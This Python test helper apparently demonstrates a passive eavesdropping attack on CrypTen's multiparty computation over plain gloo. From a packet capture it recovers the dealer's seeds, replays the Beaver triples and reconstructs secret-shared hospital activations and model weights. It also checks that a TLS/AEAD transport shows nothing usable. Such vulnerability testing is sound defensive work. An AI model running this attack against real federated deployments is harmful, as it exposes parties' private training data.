"""A passive network attacker against CrypTen over plain gloo (issue 11), from a capture alone.

Input: the reassembled TCP streams of a capture (tests/helpers/capture.py). Public knowledge
used: CrypTen 0.4.1's code and gloo's wire format. Nothing from the parties' memory.

What it reads from the capture, and why:

1. **gloo's framing** (torch 2.13's gloo ``tcp`` transport, ``gloo/transport/tcp/pair.h``): the
   side that dialled a pair connection first sends 8 bytes, its rank in that process group; then
   each side sends a sequence of operations, each a 48-byte preamble of six little-endian u64
   (``nbytes, opcode, slot, offset, length, roffset``) followed, for the data-carrying opcodes
   (``SEND_BUFFER`` 0, ``SEND_UNBOUND_BUFFER`` 1), by ``nbytes - 48`` payload bytes; the
   ``NOTIFY_*`` opcodes (2, 3) carry none. A stream that does not parse exactly so, to its last
   byte, is not gloo (the rendezvous TCPStore, TLS) and is ignored.
2. **The dealer's requests.** With the TTP provider, rank 0 asks the dealer for every triple by
   ``send_obj`` of a pickled dict ``{"function", "device", "args", "kwargs"}``
   (``mpc/provider/ttp_provider.py`` ``TTPClient.ttp_request``). Their sender is rank 0, their
   receiver the dealer, and ``args`` hold the public shapes of every multiplication, in order.
   (They are decoded with an unpickler that admits no class but ``torch.Size``.)
3. **The dealer's seeds.** ``TTPServer._setup_generators`` ``isend``s each party its triple seed,
   one int64, before anything else the dealer sends: so the first 8-byte payload from the
   dealer's host to each other host is that host's seed (``TTPClient._setup_generators`` seeds
   its generator with it).
4. **Replay.** Every triple share a party holds is drawn from that generator in request order
   (``TrustedThirdParty.generate_additive_triple`` / ``wrap_rng``: a, b — and c for ranks other
   than 0 — or r, and θ_r for ranks other than 0); replaying the requests with CrypTen's own
   ``generate_random_ring_element`` regenerates every party's shares, hence the plaintext masks
   a = Σ_k a_k and b = Σ_k b_k of every multiplication.
5. **The opened values.** Beaver's protocol (``mpc/primitives/beaver.py``) reveals ε = x − a and
   δ = y − b by an all-reduce among the hospitals; gloo's ring all-reduce sends the fully reduced
   chunks over the links in its all-gather phase. A payload is recognised as a chunk of ε by
   content: added to a at the right offset, every element becomes a fixed-point number of
   modest size (|v| < 2^36, i.e. |x| < 2^20 at CrypTen's 16 fractional bits), which a random
   word does with probability 2^-27. Then x = ε + a and y = δ + b, exactly (mod 2^64): the
   fixed-point encodings of the secret-shared operands themselves.

For split learning the first operand of the server's forward matmul is the batch's cut-layer
activations (all hospitals' rows in rank order) and the second the transposed server weights.
"""

from __future__ import annotations

import io
import pickle
import struct
from collections.abc import Iterable
from dataclasses import dataclass, field

import torch
from crypten_fl.fedtrain import compat  # noqa: F401  (CrypTen imports only after the compat fixes)

from helpers.capture import Stream

PREAMBLE = struct.Struct("<6Q")  # nbytes, opcode, slot, offset, length, roffset
SEND_BUFFER, SEND_UNBOUND_BUFFER, NOTIFY_SEND_READY, NOTIFY_RECV_READY = range(4)
SEED_BYTES = 8
PLAUSIBLE = 1 << 36  # |fixed-point value| below which a reconstructed element is believed


@dataclass(frozen=True)
class Message:
    """One gloo operation that carried data: from which host to which, when, what."""

    src: str
    dst: str
    slot: int
    payload: bytes
    time: float


def gloo_messages(stream: Stream) -> list[Message] | None:
    """The data-carrying gloo operations of one stream; None if it is not (complete) gloo."""
    data, at = stream.data, 0
    if stream.holes or stream.conflicts or not stream.syn:
        return None
    if stream.initiator:
        if len(data) < 8:
            return None
        at = 8  # the dialler's rank in the process group
    out = []
    while at < len(data):
        if at + PREAMBLE.size > len(data):
            return None
        nbytes, opcode, slot, _, length, _ = PREAMBLE.unpack_from(data, at)
        carries = opcode in (SEND_BUFFER, SEND_UNBOUND_BUFFER)
        if opcode > NOTIFY_RECV_READY or nbytes != PREAMBLE.size + (length if carries else 0) \
                or at + nbytes > len(data):
            return None
        if carries:
            payload = data[at + PREAMBLE.size:at + nbytes]
            out.append(Message(stream.src[0], stream.dst[0], slot, payload, stream.time_at(at)))
        at += nbytes
    return out


class _SizeOnly(pickle.Unpickler):
    """Unpickles the dealer's request dicts; refuses every class but ``torch.Size``."""

    def find_class(self, module: str, name: str) -> object:
        if (module, name) == ("torch", "Size"):
            return tuple
        raise pickle.UnpicklingError(f"{module}.{name} refused")


def _request(payload: bytes) -> dict[str, object] | None:
    if not payload.startswith(b"\x80"):
        return None
    try:
        obj = _SizeOnly(io.BytesIO(payload)).load()
    except Exception:  # not a pickle, or one with other classes: not a request
        return None
    return obj if isinstance(obj, dict) and "function" in obj and "args" in obj else None


@dataclass(frozen=True)
class Request:
    """One triple request of rank 0 to the dealer (function and public shapes) and when."""

    function: str
    args: tuple
    time: float


@dataclass
class Opened:
    """A Beaver multiplication of ``request``: its masks (a, b) and, once their openings were
    found on the wire, its operands x, y (fixed-point encodings, int64)."""

    request: Request
    a: torch.Tensor
    b: torch.Tensor
    x: torch.Tensor | None = None
    y: torch.Tensor | None = None


@dataclass
class Eavesdrop:
    """What the attacker learned. ``seeds``: the dealer's seed of each hospital host (int64 as
    sent); ``candidates``: every 8-byte payload value on the wire (CrypTen's seeds are such)."""

    dealer: str | None = None
    rank0: str | None = None
    seeds: dict[str, int] = field(default_factory=dict)
    candidates: set[int] = field(default_factory=set)
    requests: list[Request] = field(default_factory=list)
    products: list[Opened] = field(default_factory=list)
    wire: Wire | None = None

    def open(self, product: Opened) -> Opened:
        """Find the openings ε, δ of ``product`` on the wire: sets its operands x, y."""
        assert self.wire is not None
        product.x = self.wire.find_opened(product.a, product.request.time)
        product.y = self.wire.find_opened(product.b, product.request.time)
        return product

    def matmuls(self, left: tuple[int, ...] | None = None, right: tuple[int, ...] | None = None
                ) -> list[Opened]:
        """The multiplications of ``matmul`` requests with these operand shapes (None: any)."""
        return [p for p in self.products if p.request.function == "additive"
                and p.request.args[2:3] == ("matmul",)
                and left in (None, p.request.args[0]) and right in (None, p.request.args[1])]


def eavesdrop(streams: list[Stream]) -> Eavesdrop:
    """Run the whole attack on a capture's streams (see the module docstring)."""
    found = Eavesdrop()
    messages = sorted((m for s in streams for m in gloo_messages(s) or []), key=lambda m: m.time)
    found.candidates = {struct.unpack("<q", m.payload)[0] for m in messages
                        if len(m.payload) == SEED_BYTES}
    for m in messages:
        request = _request(m.payload)
        if request is None:
            continue
        if found.dealer is None:
            found.rank0, found.dealer = m.src, m.dst
        if (m.src, m.dst) == (found.rank0, found.dealer):
            found.requests.append(Request(str(request["function"]),
                                          tuple(request["args"]), m.time))  # type: ignore[arg-type]
    if found.dealer is None:
        return found
    for m in messages:
        if m.src == found.dealer and len(m.payload) == SEED_BYTES and m.dst not in found.seeds:
            found.seeds[m.dst] = struct.unpack("<q", m.payload)[0]
    if found.rank0 not in found.seeds:
        return found
    hospitals = set(found.seeds)
    found.wire = Wire([m for m in messages if m.src in hospitals and m.dst in hospitals])
    found.products = replay(found.requests, found.seeds, found.rank0)
    return found


def replay(requests: list[Request], seeds: dict[str, int], rank0: str) -> list[Opened]:
    """Regenerate every party's triple shares from its seed, request by request, as CrypTen's
    ``TrustedThirdParty`` does on each party; returns the masks of each multiplication.

    Stops at the first request of a kind split learning with ``--cut 1`` never makes (binary,
    B2A, square): replaying it is not implemented, and everything after depends on it."""
    from crypten.common.rng import generate_random_ring_element as draw

    generators = {host: torch.Generator().manual_seed(seed) for host, seed in seeds.items()}
    out = []
    for request in requests:
        if request.function == "additive":
            size0, size1, op = request.args[:3]
            a = sum(draw(size0, generator=g) for g in generators.values())
            b = sum(draw(size1, generator=g) for g in generators.values())
            c_size = getattr(torch, str(op))(torch.empty(size0, device="meta"),
                                             torch.empty(size1, device="meta")).size()
            for host, g in generators.items():
                if host != rank0:  # rank 0's share of c comes from the dealer instead
                    draw(c_size, generator=g)
            out.append(Opened(request, a, b))  # type: ignore[arg-type]
        elif request.function == "wraps":
            (size,) = request.args
            for host, g in generators.items():
                draw(size, generator=g)  # r
                if host != rank0:
                    draw(size, generator=g)  # θ_r
        else:
            break
    return out


def _plausible(v: torch.Tensor) -> torch.Tensor:
    return (v > -PLAUSIBLE) & (v < PLAUSIBLE)


class Wire:
    """The payloads hospitals sent each other, as int64 words, for :meth:`find_opened`."""

    def __init__(self, messages: list[Message]) -> None:
        kept = [m for m in messages if m.payload and len(m.payload) % 8 == 0]
        self.times = torch.tensor([m.time for m in kept], dtype=torch.float64)
        self.words = [torch.frombuffer(bytearray(m.payload), dtype=torch.int64) for m in kept]
        self.first = torch.stack([w[0] for w in self.words]) if kept else torch.zeros(0)

    def find_opened(self, mask: torch.Tensor, since: float) -> torch.Tensor | None:
        """``mask`` plus its opening (value − mask) found among the payloads sent after
        ``since``: the value itself (int64 fixed-point, shaped like ``mask``), or None unless
        every element was found.

        An opening travels in the memory order of the shared tensor, which for a transposed
        operand (``crypten.nn.Linear`` multiplies by ``weight.t()``) is the transpose's."""
        found = self._find(mask.reshape(-1), since)
        if found is not None:
            return found.reshape(mask.shape)
        if mask.dim() == 2:
            found = self._find(mask.t().reshape(-1), since)
            if found is not None:
                return found.reshape(mask.t().shape).t()
        return None

    def _find(self, flat: torch.Tensor, since: float) -> torch.Tensor | None:
        n = flat.numel()
        value = torch.zeros(n, dtype=torch.int64)
        have = torch.zeros(n, dtype=torch.bool)
        late = (self.times >= since).nonzero().flatten()
        if not len(late):
            return None
        hits = _plausible(self.first[late][:, None] + flat[None, :]).nonzero()
        for row, offset in hits.tolist():
            words = self.words[int(late[row])]
            k = words.numel()
            if offset + k > n:
                continue
            candidate = words + flat[offset:offset + k]
            if bool(_plausible(candidate).all()):
                value[offset:offset + k], have[offset:offset + k] = candidate, True
        return value if bool(have.all()) else None


def exposed(captured: Iterable[bytes], values: set[int]) -> set[int]:
    """Which of the 64-bit ``values`` stand anywhere in the captured bytes, as 8 little-endian
    bytes at any offset (returned, like they are compared, mod 2^64)."""
    import numpy as np

    wanted = np.array(sorted(v % (1 << 64) for v in values), dtype=np.uint64)
    seen: set[int] = set()
    for data in captured:
        for shift in range(8):
            count = (len(data) - shift) // 8
            if count <= 0:
                continue
            words = np.frombuffer(data, dtype="<u8", count=count, offset=shift)
            seen.update(int(w) for w in words[np.isin(words, wanted)])
    return seen


# -- what the same observer sees of the secure transport ---------------------------------------
TLS_CHANGE_CIPHER_SPEC, TLS_ALERT, TLS_HANDSHAKE, TLS_APPLICATION_DATA = 20, 21, 22, 23
_TLS_TYPES = (TLS_CHANGE_CIPHER_SPEC, TLS_ALERT, TLS_HANDSHAKE, TLS_APPLICATION_DATA)
FRAME_TAG, FRAME_MAX = 16, (1 << 20) + 16  # fedtrain/transport/links.py: GCM tag, ≤ 1 MiB


def tls_records(data: bytes) -> tuple[list[int], int]:
    """Content types of the whole TLS records that ``data`` starts with, and where they end.

    A link frame can never be taken for one: its u32 length (≤ 1 MiB + 16) starts with a zero
    byte, which is no TLS content type."""
    types, at = [], 0
    while at + 5 <= len(data) and data[at] in _TLS_TYPES and data[at + 1] == 3 \
            and data[at + 2] in (1, 3):
        end = at + 5 + int.from_bytes(data[at + 3:at + 5], "big")
        if end > len(data):
            break
        types.append(data[at])
        at = end
    return types, at


def link_frames(data: bytes) -> list[int] | None:
    """Lengths of the frames ``u32 big-endian length ‖ ciphertext`` that tile ``data`` exactly
    (each at least a GCM tag, at most a full frame), or None if they do not."""
    lengths, at = [], 0
    while at < len(data):
        if at + 4 > len(data):
            return None
        n = int.from_bytes(data[at:at + 4], "big")
        if not FRAME_TAG <= n <= FRAME_MAX or at + 4 + n > len(data):
            return None
        lengths.append(n)
        at += 4 + n
    return lengths


def secure_layout(data: bytes, frames_allowed: bool) -> str | None:
    """Why ``data`` (one direction of a connection) is not what the secure transport may send,
    or None: one TLS handshake record in the clear (ClientHello or ServerHello), an optional
    compatibility ChangeCipherSpec, then only application-data records (TLS 1.3 encrypts the
    rest of the handshake and the link's hello); after them, with ``frames_allowed``, AEAD
    frames to the last byte."""
    types, end = tls_records(data)
    if not types or types[0] != TLS_HANDSHAKE:
        return f"does not start with a TLS handshake record ({data[:8].hex()})"
    rest = types[2:] if types[1:2] == [TLS_CHANGE_CIPHER_SPEC] else types[1:]
    if any(t != TLS_APPLICATION_DATA for t in rest):
        return f"TLS records other than application data after the hello: {types}"
    if end == len(data):
        return None
    if not frames_allowed:
        return f"{len(data) - end} bytes after the TLS records"
    if link_frames(data[end:]) is None:
        return f"the {len(data) - end} bytes after the TLS records are not whole AEAD frames"
    return None

